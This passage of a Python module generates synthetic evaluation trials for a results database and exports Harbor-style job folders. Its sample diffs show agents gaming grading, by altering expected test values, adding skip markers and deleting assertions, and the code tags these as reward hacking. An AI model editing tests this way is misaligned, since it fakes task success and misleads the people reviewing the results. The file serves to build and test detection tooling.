    "forbid_secrets": "diff --git a/src/settings.py b/src/settings.py\n"
    "--- a/src/settings.py\n+++ b/src/settings.py\n@@ -1,2 +1,3 @@\n import os\n"
    '+AWS_ACCESS_KEY_ID = "AKIAIOSFODNN7EXAMPLE"\n',
    "tests_unmodified": "diff --git a/tests/test_core.py b/tests/test_core.py\n"
    "--- a/tests/test_core.py\n+++ b/tests/test_core.py\n@@ -20,3 +20,3 @@\n"
    "-    assert stats.lines == [12, 13, 14]\n+    assert stats.lines == [12, 13, 15]\n",
    "baseline_unmodified": "diff --git a/setup.cfg b/setup.cfg\n--- a/setup.cfg\n"
    "+++ b/setup.cfg\n@@ -4,2 +4,2 @@\n-addopts = --strict-markers\n+addopts = -p no:randomly\n",
    "no_new_skips": "diff --git a/tests/test_core.py b/tests/test_core.py\n"
    "--- a/tests/test_core.py\n+++ b/tests/test_core.py\n@@ -30,2 +30,3 @@\n"
    "+@pytest.mark.skip(reason='flaky')\n def test_nested_calls():\n",
    "assertions_not_weakened": "diff --git a/tests/test_core.py b/tests/test_core.py\n"
    "--- a/tests/test_core.py\n+++ b/tests/test_core.py\n@@ -41,4 +41,2 @@\n"
    "     result = profile(func)\n-    assert result.total > 0\n-    assert result.calls == 3\n",
    "max_files_changed": "".join(
        f"diff --git a/src/util_{n}.py b/src/util_{n}.py\n--- a/src/util_{n}.py\n"
        f"+++ b/src/util_{n}.py\n@@ -1 +1 @@\n-VERSION = 1\n+VERSION = 2\n"
        for n in range(11)
    ),
}


def _workspace_diff(ctx: _Ctx) -> str:
    fixed = "command" not in ctx.failing
    guard = "i < len(lines)" if fixed else "i <= len(lines)"
    diff = (
        "diff --git a/src/core.py b/src/core.py\nindex 3f2a1b0..9c4d2e1 100644\n"
        "--- a/src/core.py\n+++ b/src/core.py\n@@ -41,7 +41,7 @@ def wrap(func):\n"
        "     lines = inspect.getsourcelines(func)[0]\n     i = 0\n"
        f"-    while i <= len(lines) - 1:\n+    while {guard}:\n"
        "         record(lines[i])\n         i += 1\n"
    )
    if "file_exists" not in ctx.failing and ctx.task.scenario is SCENARIO_FULL:
        diff += (
            "diff --git a/CHANGELOG.md b/CHANGELOG.md\n--- a/CHANGELOG.md\n+++ b/CHANGELOG.md\n"
            "@@ -1,2 +1,3 @@\n # Changelog\n+- Fix line numbers reported for wrapped loops.\n"
        )
    for type_ in ctx.failing:
        diff += _DIFF_HUNKS.get(type_, "").replace("{text}", ctx.text("scratch notes"))
    if ctx.hostile:
        diff += (
            "diff --git a/src/banner.py b/src/banner.py\n--- a/src/banner.py\n"
            "+++ b/src/banner.py\n@@ -1 +1,2 @@\n"
            + "".join(f"+BANNER = {json.dumps(h)}\n" for h in HOSTILE)
        )
    if ctx.long:
        diff += (
            "diff --git a/src/data.py b/src/data.py\n--- a/src/data.py\n+++ b/src/data.py\n"
            f"@@ -1 +1 @@\n-TABLE = []\n+TABLE = [{ctx.long_line('0, ')}]\n"
        )
    return diff


def _verifier_stdout(ctx: _Ctx, current: dict[str, Any]) -> str:
    if not current["validity"]["verifier_completed"]:
        return ""
    lines = [f"+ bash {ctx.plan.tasks[TASKS.index(ctx.task)].verifier_script}"]
    if ctx.task.expected_output_path:
        lines.append(f"reading {ctx.task.expected_output_path}")
    lines += current["validity"]["errors"]
    lines.append(f"writing {ctx.plan.tasks[TASKS.index(ctx.task)].reward_path}")
    return "\n".join(lines)


def _ctrf(ctx: _Ctx) -> dict[str, Any]:
    failed = 1 if "command" in ctx.failing else 0
    base = 1_794_000_000 + ctx.i
    return {
        "results": {
            "tool": {"name": "pytest", "version": "8.4.1"},
            "summary": {
                "tests": 3,
                "passed": 3 - failed,
                "failed": failed,
                "skipped": 0,
                "pending": 0,
                "other": 0,
                "start": base,
                "stop": base + 5,
            },
            "tests": [
                {
                    "name": f"test_state.py::test_{name}",
                    "status": "failed" if failed and n == 0 else "passed",
                    "duration": 0.0015 + n / 1000,
                    "file_path": "test_state.py",
                }
                for n, name in enumerate(("patch_resolved", "no_regression", "api_stable"))
            ],
        }
    }


def _error_tags(ctx: _Ctx, current: dict[str, Any]) -> list[dict[str, Any]]:
    tags: list[dict[str, Any]] = []

    def tag(category: str, description: str, source: str = "mechanical") -> None:
        tags.append({"category": category, "description": description, "source": source})

    validity_tags = {
        "schema_invalid": ("schema violation", "the answer does not match the output schema"),
        "unparseable": ("parsing error", "the output file does not parse"),
        "rejected_nonzero": ("parsing error", "verifier scored output that does not parse"),
        "output_missing": ("missing output", "the agent never wrote its output file"),
        "reward_unreadable": ("verifier error", "reward.json is not valid JSON"),
        "reward_no_key": ("verifier error", "reward.json has no reward key"),
        "reward_out_of_range": ("verifier error", "reward outside [0, 1]"),
        "reward_not_number": ("verifier error", "reward is not a number"),
    }
    if ctx.validity in validity_tags:
        tag(*validity_tags[ctx.validity])
    if ctx.exception in {"agent_timeout_with_reward", "verifier_timeout"}:
        tag("timeout", _EXCEPTIONS[ctx.exception][1])
    if ctx.exception == "nonzero_agent_exit":
        tag("tool failure", "agent process killed (exit 137)")
    for type_ in ctx.failing:
        if type_ in {"tests_unmodified", "assertions_not_weakened", "no_new_skips"}:
            tag("reward hacking", f"{type_} failed: grading checks were edited")
        elif type_ in {"allowed_paths", "forbid_paths", "max_files_changed"}:
            tag("scope violation", f"{type_} failed")
    if ctx.gate.judge == "FAIL":
        tag(
            "unit mismatch" if ctx.task.kind == "contract" else "incomplete",
            _REASONING_ON_FAILURE[:120],
            "judge",
        )
    if ctx.hostile:
        tag("prompt injection", ctx.lead, "judge")
    return tags


def _claw_steps(ctx: _Ctx, bundle: TrialBundle) -> list[tuple[str, float]]:
    """Multi-step Harbor trials: per-step rewards whose aggregate (the mean) is not the last."""
    reward = bundle.current_result.reward
    if not 0 < reward < 1:
        return [("plan", reward), ("run", reward)]
    first = round(min(1.0, reward * 1.5), 4)
    return [("plan", first), ("run", round(max(0.0, 2 * reward - first), 4))]


# --- the writer path ------------------------------------------------------------------------------
@dataclass
class SeedReport:
    jobs: int = 0
    tasks: int = 0
    trials: int = 0
    unchanged: int = 0
    updated: int = 0
    invalid: list[str] = field(default_factory=list)
    path: str = ""


ProgressFn = Callable[[int], None]


def seed_with_writer(
    plan: DemoPlan,
    *,
    compact: bool = False,
    batch_size: int = 500,
    progress: ProgressFn | None = None,
) -> SeedReport:
    """Store every trial as a `TrialBundle` through the one writer."""
    generator = DemoGenerator(plan, compact=compact)
    writer = BundleWriter(batch_size=batch_size)
    report = SeedReport(path="writer")
    tasks_before = Task.objects.count()
    jobs_before = Job.objects.count()
    for start in range(0, plan.trials, batch_size):
        indices = range(start, min(plan.trials, start + batch_size))
        outcomes = writer.write_many(list(generator.bundles(indices)))
        for outcome in outcomes:
            if outcome.status == "ingested":
                report.trials += 1
            elif outcome.status == "unchanged":
                report.unchanged += 1
            elif outcome.status == "updated":
                report.updated += 1
            elif outcome.status == "invalid":
                report.invalid.append(f"{outcome.job}/{outcome.trial}: {outcome.reason}")
        if progress:
            progress(len(indices))
    refresh_job_stats([job.name for job in plan.jobs])
    report.jobs = Job.objects.count() - jobs_before
    report.tasks = Task.objects.count() - tasks_before
    return report


def refresh_job_stats(job_names: Sequence[str]) -> None:
    """Harbor-like job stats (n_trials, n_errors, per agent and dataset means), from the rows."""
    rows = (
        Trial.objects.filter(job__name__in=job_names)
        .values("job_id", "agent_name", "task__source")
        .annotate(
            n=Count("id"),
            errors=Count("id", filter=~Q(exception_type="")),
            mean=Avg("reward"),
        )
        .order_by()
    )
    stats: dict[int, dict[str, Any]] = {}
    for row in rows:
        job_stats = stats.setdefault(row["job_id"], {"n_trials": 0, "n_errors": 0, "evals": {}})
        job_stats["n_trials"] += row["n"]
        job_stats["n_errors"] += row["errors"]
        job_stats["evals"][f"{row['agent_name']}__{row['task__source']}"] = {
            "n_trials": row["n"],
            "n_errors": row["errors"],
            "metrics": [{"mean": round(row["mean"] or 0.0, 4)}],
        }
    for job in Job.objects.filter(pk__in=list(stats)):
        job.stats = stats[job.pk]
        job.save(update_fields=["stats"])


# --- the fast path ------------------------------------------------------------------------------
@dataclass
class _ChildRow:
    values: dict[str, Any]  # attname → value for the constant columns
    moment: datetime | None  # the row's time column, moved with the trial
    text: str = ""  # COPY text of the constant columns


@dataclass(frozen=True)
class _Chunk:
    job: Job
    plan: JobPlan
    indices: range


@dataclass
class _Archetype:
    """A built trial whose content is reused, with its own identity and times, by others."""

    slot: datetime
    task_id: int
    task_short: str
    trial_values: dict[str, Any]
    trial_text: str
    started: datetime | None
    finished: datetime | None
    timings: dict[str, dict[str, datetime]]  # parsed once, moved per trial
    children: dict[type[models.Model], list[_ChildRow]]


_TRIAL_IDENTITY = (
    "id",
    "job_id",
    "name",
    "uid",
    "started_at",
    "finished_at",
    "timings",
    "updated_at",
)
_TIME_FIELD: dict[type[models.Model], str | None] = {
    TrialDetail: None,
    EvaluationResult: "created_at",
    ScorerResult: None,
    JudgeVerdict: "scored_at",
    ErrorTag: None,
}


def _const_fields(model: type[models.Model], skip: Iterable[str]) -> list[models.Field[Any, Any]]:
    skipped = set(skip)
    return [
        f for f in model._meta.concrete_fields if not f.primary_key and f.attname not in skipped
    ]


def _column(f: models.Field[Any, Any]) -> str:
    assert f.column, f"{f.name} has no column"  # concrete fields always have one
    return f.column


def _copy_row(values: dict[str, Any], fields: Sequence[models.Field[Any, Any]]) -> str:
    """COPY text of `fields`, JSON columns spelled as the writer spells them."""
    return copy_text(
        json_text(values[f.attname])
        if isinstance(f, models.JSONField) and values[f.attname] is not None
        else values[f.attname]
        for f in fields
    )


class FastLoader:
    """Inserts demo trials as rows, in chunks of `chunk` trials, one transaction each.

    Each profile's first `archetypes` trials are generated in full, through the same
    pydantic models and row helpers as the writer, and their summary is computed by
    `summary_of`; later trials reuse an archetype's content with their own name, uid and
    times, so a million trials cost a million small string joins rather than a million
    bundles. On PostgreSQL rows go in with COPY; elsewhere with bulk_create.
    """

    def __init__(
        self,
        plan: DemoPlan,
        *,
        archetypes: int = ARCHETYPES_PER_PROFILE,
        chunk: int = 10_000,
        progress: ProgressFn | None = None,
    ) -> None:
        self.plan = plan
        self.generator = DemoGenerator(plan, compact=True)
        self.n_archetypes = archetypes
        self.chunk = chunk
        self.progress = progress
        self.use_copy = connection.vendor == "postgresql"
        self._archetypes: dict[tuple[int, int], _Archetype] = {}
        self._now = timezone.now()
        self._tasks: dict[tuple[str, str, str], Task] = {}
        self._trial_fields = _const_fields(Trial, _TRIAL_IDENTITY)
        self._child_fields = {
            model: _const_fields(model, ["trial_id", *([t] if t else [])])
            for model, t in _TIME_FIELD.items()
        }
        # COPY column lists, in the order `_copy_lines` writes the values.
        self._columns: dict[type[models.Model], list[str]] = {
            Trial: [*_TRIAL_IDENTITY, *(_column(f) for f in self._trial_fields)]
        }
        for model, time_field in _TIME_FIELD.items():
            self._columns[model] = [
                "trial_id",
                *([time_field] if time_field else []),
                *(_column(f) for f in self._child_fields[model]),
            ]

    def run(self) -> SeedReport:
        plan = self.plan
        clash = list(
            Job.objects.filter(name__in=[j.name for j in plan.jobs]).values_list("name", flat=True)
        )
        if clash:
            raise DemoError(
                f"{len(clash)} demo job(s) already exist (e.g. {clash[0]}): this seed was loaded "
                "before. Use another --seed, or --if-empty."
            )
        report = SeedReport(path="fast (COPY)" if self.use_copy else "fast (bulk_create)")
        tasks_before = Task.objects.count()
        self._create_tasks()
        jobs = self._create_jobs()
        report.tasks = Task.objects.count() - tasks_before
        report.jobs = len(jobs)
        chunks = [
            _Chunk(jobs[job_plan.name], job_plan, range(start, min(end, start + self.chunk)))
            for job_plan in plan.jobs
            for end in [job_plan.first_trial + job_plan.n_trials]
            for start in range(job_plan.first_trial, end, self.chunk)
        ]
        if self.use_copy:
            self._run_copy(chunks, report)
        else:
            for chunk in chunks:
                with transaction.atomic():
                    self._bulk_chunk(chunk)
                self._advance(report, len(chunk.indices))
        refresh_job_stats([j.name for j in plan.jobs])
        return report

    def _advance(self, report: SeedReport, n: int) -> None:
        report.trials += n
        if self.progress:
            self.progress(n)

    # -- jobs, tasks, archetypes ---------------------------------------------------------------
    def _create_tasks(self) -> None:
        for record in self.plan.tasks:
            # As the writer does: a task is created once and never changed (seed 003).
            task, _ = Task.objects.get_or_create(
                source=record.source,
                name=record.name,
                checksum=record.checksum,
                defaults=record.model_dump(exclude={"source", "name", "checksum"}),
            )
            self._tasks[(record.source, record.name, record.checksum)] = task

    def _create_jobs(self) -> dict[str, Job]:
        created = Job.objects.bulk_create(
            [
                Job(
                    name=j.name,
                    started_at=j.started_at,
                    finished_at=j.finished_at,
                    config=j.config(),
                    stats={},
                )
                for j in self.plan.jobs
            ]
        )
        if any(job.pk is None for job in created):  # backends that return no keys
            return {
                job.name: job
                for job in Job.objects.filter(name__in=[j.name for j in self.plan.jobs])
            }
        return {job.name: job for job in created}

    def _archetype(self, i: int, job_plan: JobPlan) -> _Archetype:
        key = (job_plan.profile_index, i % self.n_archetypes)
        found = self._archetypes.get(key)
        if found is None:
            found = self._build_archetype(i)
            self._archetypes[key] = found
        return found

    def _build_archetype(self, i: int) -> _Archetype:
        bundle = self.generator.trial(i).bundle
        results = [r.checked() for r in bundle.results]
        bundle = bundle.model_copy(update={"results": results})
        record = bundle.task
        task = self._tasks[(record.source, record.name, record.checksum)]
        # The writer's own mapping, summary and child rows, so a fast-path trial is the row
        # the writer would have stored.
        trial = Trial(
            task=task,
            name=bundle.trial.name,
            uid=bundle.trial.uid,
            **trial_columns_of(bundle),
        )
        trial.apply_summary(summary_of(bundle, bundle.current_result))
        trial_values = {f.attname: getattr(trial, f.attname) for f in self._trial_fields}
        children = child_rows(bundle, trial, self._now)
        rows: dict[type[models.Model], list[_ChildRow]] = {}
        for model, instances in children.items():
            fields = self._child_fields[model]
            time_field = _TIME_FIELD[model]
            rows[model] = []
            for instance in instances:
                values = {f.attname: getattr(instance, f.attname) for f in fields}
                moment = getattr(instance, time_field) if time_field else None
                text = _copy_row(values, fields) if self.use_copy else ""
                rows[model].append(_ChildRow(values, moment, text))
        return _Archetype(
            slot=self.plan.slot(i),
            task_id=task.pk,
            task_short=record.name.split("/")[-1][:32],
            trial_values=trial_values,
            trial_text=_copy_row(trial_values, self._trial_fields) if self.use_copy else "",
            started=trial.started_at,
            finished=trial.finished_at,
            timings={
                phase: {key: datetime.fromisoformat(value) for key, value in times.items()}
                for phase, times in bundle.trial.timings.items()
            },
            children=rows,
        )

    # -- per-trial identity -------------------------------------------------------------------
    def _identity(self, i: int, arch: _Archetype) -> tuple[str, uuid.UUID, timedelta]:
        name = f"{arch.task_short}__{self.plan.suffix(i)}"
        return name, self.plan.uid(i), self.plan.slot(i) - arch.slot

    @staticmethod
    def _timings(arch: _Archetype, delta: timedelta) -> dict[str, dict[str, str]]:
        return {
            phase: {key: _iso(moment + delta) for key, moment in times.items()}
            for phase, times in arch.timings.items()
        }

    # -- PostgreSQL: COPY ------------------------------------------------------------------------
    def _run_copy(self, chunks: Sequence[_Chunk], report: SeedReport) -> None:
        """Pipelined: a worker thread builds chunk k+1's COPY text while chunk k streams in.

        The worker never touches the database (trial ids are reserved here, before it
        starts), and psycopg releases the GIL while it waits on the server, so building and
        loading overlap. Each chunk commits on its own: a failure keeps the chunks before it.
        """
        with ThreadPoolExecutor(max_workers=1, thread_name_prefix="seed-demo") as pool:

            def submit(chunk: _Chunk) -> Future[dict[type[models.Model], list[str]]]:
                ids = reserve_trial_ids(len(chunk.indices))
                return pool.submit(self._copy_lines, chunk, ids)

            pending = submit(chunks[0]) if chunks else None
            for k, chunk in enumerate(chunks):
                assert pending is not None
                lines = pending.result()
                pending = submit(chunks[k + 1]) if k + 1 < len(chunks) else None
                with transaction.atomic(), connection.cursor() as cursor:
                    # Demo rows: losing the last chunk in a crash is harmless; waiting for the
                    # WAL flush on every commit is not.
                    cursor.execute("SET LOCAL synchronous_commit TO OFF")
                    for model, model_lines in lines.items():
                        self._copy(cursor, model._meta.db_table, self._columns[model], model_lines)
                self._advance(report, len(chunk.indices))

    def _copy_lines(self, chunk: _Chunk, ids: Sequence[int]) -> dict[type[models.Model], list[str]]:
        """COPY text for one chunk: every table, in `self._columns` order."""
        now = self._now.isoformat()
        job_id = chunk.job.pk
        trial_lines: list[str] = []
        lines: dict[type[models.Model], list[str]] = {Trial: trial_lines}
        lines.update((model, []) for model in _TIME_FIELD)
        for trial_id, i in zip(ids, chunk.indices, strict=True):
            arch = self._archetype(i, chunk.plan)
            name, uid, delta = self._identity(i, arch)
            started = (arch.started + delta).isoformat() if arch.started else r"\N"
            finished = (arch.finished + delta).isoformat() if arch.finished else r"\N"
            timings = copy_escape(json.dumps(self._timings(arch, delta)))
            trial_lines.append(
                f"{trial_id}\t{job_id}\t{name}\t{uid}\t{started}\t{finished}\t{timings}\t"
                f"{now}\t{arch.trial_text}\n"
            )
            for model, rows in arch.children.items():
                model_lines = lines[model]
                if _TIME_FIELD[model]:
                    for row in rows:
                        moment = (row.moment + delta).isoformat() if row.moment else r"\N"
                        model_lines.append(f"{trial_id}\t{moment}\t{row.text}\n")
                else:
                    model_lines.extend(f"{trial_id}\t{row.text}\n" for row in rows)
        return lines

    @staticmethod
    def _copy(cursor: Any, table: str, columns: Sequence[str], lines: list[str]) -> None:
        if not lines:
            return
        quote = connection.ops.quote_name
        sql = f"COPY {quote(table)} ({', '.join(quote(c) for c in columns)}) FROM STDIN"
        with cursor.copy(sql) as copy:
            # Write in pieces of about 8 MB: one huge string would double peak memory.
            for start in range(0, len(lines), 2_000):
                copy.write("".join(lines[start : start + 2_000]))

    # -- any other database: bulk_create ---------------------------------------------------------
    def _bulk_chunk(self, chunk: _Chunk) -> None:
        trials: list[Trial] = []
        archetypes: list[tuple[_Archetype, timedelta]] = []
        for i in chunk.indices:
            arch = self._archetype(i, chunk.plan)
            name, uid, delta = self._identity(i, arch)
            trials.append(
                Trial(
                    job=chunk.job,
                    name=name,
                    uid=uid,
                    started_at=arch.started + delta if arch.started else None,
                    finished_at=arch.finished + delta if arch.finished else None,
                    timings=self._timings(arch, delta),
                    **arch.trial_values,
                )
            )
            archetypes.append((arch, delta))
        Trial.objects.bulk_create(trials, batch_size=2_000)
        children: dict[type[models.Model], list[models.Model]] = {m: [] for m in _TIME_FIELD}
        for trial, (arch, delta) in zip(trials, archetypes, strict=True):
            for model, rows in arch.children.items():
                time_field = _TIME_FIELD[model]
                for row in rows:
                    values = dict(row.values)
                    if time_field:
                        values[time_field] = row.moment + delta if row.moment else None
                    children[model].append(model(trial_id=trial.pk, **values))
        for model, instances in children.items():
            model._default_manager.bulk_create(instances, batch_size=2_000)


def seed_fast(
    plan: DemoPlan,
    *,
    archetypes: int = ARCHETYPES_PER_PROFILE,
    chunk: int = 10_000,
    progress: ProgressFn | None = None,
) -> SeedReport:
    return FastLoader(plan, archetypes=archetypes, chunk=chunk, progress=progress).run()


# --- Harbor job folders ------------------------------------------------------------------------
def _harbor_time(value: datetime | str | None, naive: bool) -> str | None:
    if value is None:
        return None
    if isinstance(value, str):
        value = datetime.fromisoformat(value)
    if naive:
        # Older Harbor wrote `datetime.now()`: no zone (the machines ran on UTC).
        return value.astimezone(UTC).replace(tzinfo=None).isoformat()
    return _iso(value)


def _dump(path: Path, data: Any) -> None:
    path.write_text(json.dumps(data, indent=4, ensure_ascii=False) + "\n", encoding="utf-8")


def write_harbor(plan: DemoPlan, root: Path, *, progress: ProgressFn | None = None) -> SeedReport:
    """Write Harbor-format job folders under `root`: `<job>/` and `<job>/<trial>/`."""
    generator = DemoGenerator(plan, check_outputs=False)
    root.mkdir(parents=True, exist_ok=True)
    clash = [j.name for j in plan.jobs if (root / j.name).exists()]
    if clash:
        raise DemoError(f"{root / clash[0]} already exists; choose an empty folder")
    report = SeedReport(path="harbor", tasks=len(plan.tasks))
    for job in plan.jobs:
        job_dir = root / job.name
        job_dir.mkdir()
        job_id = str(uuid.UUID(bytes=hashlib.blake2b(job.name.encode(), digest_size=16).digest()))
        _dump(job_dir / "config.json", job.config())
        evals: dict[str, _EvalStats] = {}
        for i in range(job.first_trial, job.first_trial + job.n_trials):
            demo = generator.trial(i)
            reward = _write_harbor_trial(job_dir, job, job_id, demo)
            stats = evals.setdefault(
                f"{job.profile.agent}__{demo.bundle.task.source}", _EvalStats()
            )
            stats.add(demo.bundle.trial.name, reward, demo.bundle.trial.exception_type)
            report.trials += 1
            if progress:
                progress(1)
        _write_harbor_job_result(job_dir, job, job_id, evals)
        report.jobs += 1
    return report


@dataclass
class _EvalStats:
    """One `agent__dataset` entry of a Harbor JobResult."""

    n_trials: int = 0
    total: float = 0.0
    rewards: dict[str, list[str]] = field(default_factory=dict)
    errors: Counter[str] = field(default_factory=Counter)

    def add(self, trial: str, reward: float | None, exception_type: str) -> None:
        self.n_trials += 1
        if reward is not None:
            self.total += reward
            self.rewards.setdefault(repr(float(reward)), []).append(trial)
        if exception_type:
            self.errors[exception_type] += 1

    def as_json(self) -> dict[str, Any]:
        return {
            "n_trials": self.n_trials,
            "n_errors": sum(self.errors.values()),
            "metrics": [{"mean": round(self.total / self.n_trials, 4)}],
            "pass_at_k": {},
            "reward_stats": {"reward": self.rewards},
            "exception_stats": dict(sorted(self.errors.items())),
        }


def _write_harbor_job_result(
    job_dir: Path, job: JobPlan, job_id: str, evals: dict[str, _EvalStats]
) -> None:
    naive = job.index % 3 == 2  # older Harbor wrote job times without a zone
    _dump(
        job_dir / "result.json",
        {
            "id": job_id,
            "started_at": _harbor_time(job.started_at, naive),
            "finished_at": _harbor_time(job.finished_at, naive),
            "n_total_trials": job.n_trials,
            "stats": {
                "n_trials": job.n_trials,
                "n_errors": sum(sum(e.errors.values()) for e in evals.values()),
                "evals": {key: stats.as_json() for key, stats in sorted(evals.items())},
            },
        },
    )


def _write_harbor_trial(job_dir: Path, job: JobPlan, job_id: str, demo: DemoTrial) -> float | None:
    """One trial folder; returns the reward Harbor recorded (None: no verifier_result)."""
    bundle, hints = demo.bundle, demo.harbor
    trial, task = bundle.trial, bundle.task
    profile = job.profile
    trial_dir = job_dir / trial.name
    (trial_dir / "agent").mkdir(parents=True)
    naive = hints.naive_times

    config = {
        **trial.config,
        "task": {
            "path": f"datasets/{task.source}/{task.name.split('/')[-1]}",
            "git_url": None,
            "git_commit_id": None,
            "name": None,
            "ref": None,
            "overwrite": False,
            "download_dir": None,
            "source": task.source,
        },
        "trial_name": trial.name,
        "trials_dir": f"jobs/{job.name}",
        "artifacts": [],
        "job_id": job_id,
    }
    if hints.extra_keys:
        config["environment"] = {**config["environment"], "mounts_json": None}
    _dump(trial_dir / "config.json", config)

    # What Harbor recorded: the verifier's reward file as it read it, or nothing.
    rewards: dict[str, Any] | None = None
    raw = hints.reward_raw
    if raw is not None:
        if hints.reward_file == "reward.txt":
            try:
                rewards = {"reward": float(raw.decode().strip())}
            except ValueError:
                rewards = None
        else:
            try:
                parsed = json.loads(raw.decode() or "null")
            except ValueError:
                parsed = None
            # Harbor keeps only numeric keys; a reward file without one fails its verifier.
            if isinstance(parsed, dict):
                numeric = {
                    k: v
                    for k, v in parsed.items()
                    if isinstance(v, int | float) and not isinstance(v, bool)
                }
                rewards = numeric if "reward" in numeric else None
    verifier_result = {"rewards": rewards, "statistics": None} if rewards is not None else None
    if verifier_result is not None and not hints.extra_keys:
        del verifier_result["statistics"]

    exception_info = None
    if trial.exception_type:
        occurred = trial.finished_at or trial.started_at or job.started_at
        exception_info = {
            "exception_type": trial.exception_type,
            "exception_message": trial.exception_message,
            "exception_traceback": trial.exception_traceback,
            # Harbor calls datetime.now(): always naive local time.
            "occurred_at": occurred.replace(tzinfo=None).isoformat(),
        }
        (trial_dir / "exception.txt").write_text(trial.exception_traceback, encoding="utf-8")
    elif rewards is None and trial.status == "completed":
        # Harbor names the verifier's failure when it recorded no reward.
        exception_info = {
            "exception_type": "RewardFileEmptyError" if raw == b"" else "VerifierOutputParseError",
            "exception_message": "reward file could not be parsed",
            "exception_traceback": "Traceback (most recent call last):\n  ...\n",
            "occurred_at": (trial.finished_at or job.started_at).replace(tzinfo=None).isoformat(),
        }
        (trial_dir / "exception.txt").write_text(
            exception_info["exception_traceback"], encoding="utf-8"
        )

    timing = {
        name: {
            "started_at": _harbor_time(block["started_at"], naive),
            "finished_at": _harbor_time(block["finished_at"], naive),
        }
        for name, block in trial.timings.items()
    }
    agent_result = None
    if trial.n_input_tokens is not None:
        agent_result = {
            "n_input_tokens": trial.n_input_tokens,
            "n_cache_tokens": trial.n_cache_tokens,
            "n_output_tokens": trial.n_output_tokens,
            "cost_usd": trial.cost_usd,
            "rollout_details": None,
            "metadata": None,
        }
    model_info = None
    if not hints.model_info_null:
        model_info = {"name": profile.model, "provider": profile.provider}
    result: dict[str, Any] = {
        "id": str(trial.uid),
        "task_name": task.name,
        "trial_name": trial.name,
        "trial_uri": f"file:///srv/harbor/jobs/{job.name}/{trial.name}",
        "task_id": {"path": config["task"]["path"]},
        "source": task.source,
        "task_checksum": task.checksum,
        "config": config,
        "agent_info": {"name": profile.agent, "version": profile.version, "model_info": model_info},
        "agent_result": agent_result,
        "verifier_result": verifier_result,
        "exception_info": exception_info,
        "started_at": _harbor_time(trial.started_at, naive),
        "finished_at": _harbor_time(trial.finished_at, naive),
        "environment_setup": timing.get("environment_setup"),
        "agent_setup": timing.get("agent_setup"),
        "agent_execution": timing.get("agent_execution"),
        "verifier": timing.get("verifier"),
        "step_results": None,
    }
    if hints.extra_keys:
        # A fork-only field: readers must ignore keys they do not know.
        result["skill_learning_result"] = {"outcome": "skipped", "log_path": None}

    if trial.trajectory is not None:
        _dump(trial_dir / "agent" / "trajectory.json", trial.trajectory)
    if hints.steps and verifier_result is not None:
        # Multi-step layout: per-step verifiers; the top-level result is Harbor's aggregate.
        result["agent_execution"] = result["verifier"] = None
        steps = []
        for step, step_reward in hints.steps:
            step_dir = trial_dir / "steps" / step / "verifier"
            step_dir.mkdir(parents=True)
            step_rewards = {**(rewards or {}), "reward": step_reward}
            _dump(step_dir / "reward.json", step_rewards)
            steps.append(
                {
                    "step_name": step,
                    "agent_result": agent_result,
                    "verifier_result": {"rewards": step_rewards, "statistics": None},
                    "exception_info": None,
                    "agent_execution": timing.get("agent_execution"),
                    "verifier": timing.get("verifier"),
                }
            )
        result["step_results"] = steps
    elif raw is not None:
        verifier_dir = trial_dir / "verifier"
        verifier_dir.mkdir()
        (verifier_dir / hints.reward_file).write_bytes(raw)
        if hints.details_raw is not None:
            (verifier_dir / "reward-details.json").write_bytes(hints.details_raw)
        if trial.ctrf is not None:
            _dump(verifier_dir / "ctrf.json", trial.ctrf)
        if trial.verifier_stdout:
            (verifier_dir / "test-stdout.txt").write_text(trial.verifier_stdout, encoding="utf-8")
    _dump(trial_dir / "result.json", result)
    return None if rewards is None else rewards["reward"]
